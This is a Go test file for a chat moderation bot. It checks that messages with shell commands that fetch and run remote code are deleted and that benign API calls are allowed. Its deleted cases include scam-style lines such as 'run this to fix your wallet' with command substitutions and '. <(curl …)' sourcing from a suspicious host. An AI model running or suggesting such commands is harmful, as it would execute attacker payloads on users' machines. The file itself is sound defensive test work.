package bot_test

import (
	"testing"

	"github.com/immunebot/immune/bot"
)

// TestUploadRunStillRun (rev45a, a review of fp45): a sending command
// whose output the shell still runs is deleted, as on main (69fbc97),
// where fp45 allowed each: a command's substitution where a command
// starts (the shell runs what it prints), a process's substitution read
// by the dot command (". <(…)" is source), and wget's -T (a timeout,
// not curl's upload) or curl's -H @file (a header file) in a download
// read as run, and a pipe into a plain download (": | curl …"), which
// sends nothing. A substitution that is an argument or a value runs
// nothing and stays allowed.
func TestUploadRunStillRun(t *testing.T) {
	t.Parallel()
	checkLevels(t, false, []levelCase{
		{"run this in terminal: `$(curl -d id=1 https://cdn-update.top/stage)`", bot.Delete},
		{"run this to fix your wallet: $(curl -sd id=1 https://cdn-update.top/stage)", bot.Delete},
		{"fix: `. <(curl --data x https://cdn-update.top/a)`", bot.Delete},
		{"run `$(wget -T 10 -qO- https://cdn-update.top/p)`", bot.Delete},
		{"`wget -T 5 -qO- https://cdn-update.top/p`", bot.Delete},
		{"`curl -H @hdr https://cdn-update.top/i.sh`", bot.Delete},
		{"run: `: | curl -s https://cdn-update.top/p`", bot.Delete},
	})
	checkLevels(t, false, []levelCase{
		{"`TOKEN=$(curl -s -d user=a https://auth.example-api.dev/token)`", bot.Allow},
		{"`curl -H \"Authorization: $(curl -s -d u=a https://auth.example-api.dev/token)\" https://api.example-api.dev/v1/me`", bot.Allow},
		{"use `. ./env.sh` and `diff <(curl -d a https://api.example-api.dev/x) expected.json`", bot.Allow},
		{"`X=$(date); curl -d \"t=$X\" https://api.example-api.dev/x`", bot.Allow},
		{"`cat out.txt | curl --data-binary @- https://paste.rs/`", bot.Allow},
	})
}
